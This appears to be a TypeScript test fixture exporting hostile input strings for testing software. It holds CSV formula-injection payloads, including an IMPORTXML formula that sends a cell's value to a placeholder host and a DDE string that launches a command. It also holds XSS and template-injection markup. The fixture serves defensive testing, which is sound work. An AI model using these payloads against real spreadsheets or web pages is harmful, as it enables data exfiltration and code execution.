import { loadBlns } from '../support/blns';

/** The formula-injection set of OWASP's page on CSV injection, with the full-width forms that Japanese keyboards give. */
export const FORMULAS: readonly string[] = [
  ...['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'].flatMap((sign) => [
    `${sign}1+1`,
    `${sign}HYPERLINK("x","y")`,
  ]),
  '=IMPORTXML(CONCAT("http://x.invalid/?v=",A1),"//a")',
  "=cmd|' /C calc'!A0",
  "'=1+1",
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  ';=1+1',
];

export const MARKUP: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '"><svg onload=window.pwned=1>',
  "' onmouseover='window.pwned=1",
  '</textarea><script>window.pwned=1</script>',
  'javascript:window.pwned=1',
  '{{constructor.constructor("window.pwned=1")()}}',
  '<?= 1 ?>',
  '&lt;b&gt;',
  '$& $1 $` $' + '{1+1}',
];

/** Every text that breaks software, none of them empty or blank (a blank cell says nothing). */
export const HOSTILE: readonly string[] = [...FORMULAS, ...MARKUP, ...loadBlns()].filter((text) => text.trim() !== '');
